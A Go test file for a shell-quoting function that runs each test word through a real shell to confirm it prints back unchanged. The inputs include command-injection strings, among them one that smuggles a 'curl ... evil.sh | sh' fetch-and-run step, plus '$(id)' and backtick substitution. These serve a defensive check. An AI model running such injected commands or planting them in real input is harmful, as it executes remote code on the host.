package shell

import (
	"os/exec"
	"testing"
)

// TestQuote asks a real shell.
func TestQuote(t *testing.T) {
	for _, word := range []string{"v2", "", "it's", "v2;curl -s evil.sh|sh;:", "$(id)", "`id`", "a\nb", `\`, "~", "!x", "*", "a b", "-x", "ü", "#", "=a"} {
		got, err := exec.Command("sh", "-c", "printf %s "+Quote(word)).Output()
		if word == "-x" { // an option to printf, not to the shell
			got, err = exec.Command("sh", "-c", "printf -- "+Quote(word)).Output()
		}
		if err != nil || string(got) != word {
			t.Errorf("Quote(%q) = %s, which a shell takes for %q, %v", word, Quote(word), got, err)
		}
	}
	if got := Quote("upgrades/v2-rc.1"); got != "upgrades/v2-rc.1" {
		t.Errorf("a safe word is quoted: %s", got)
	}
}
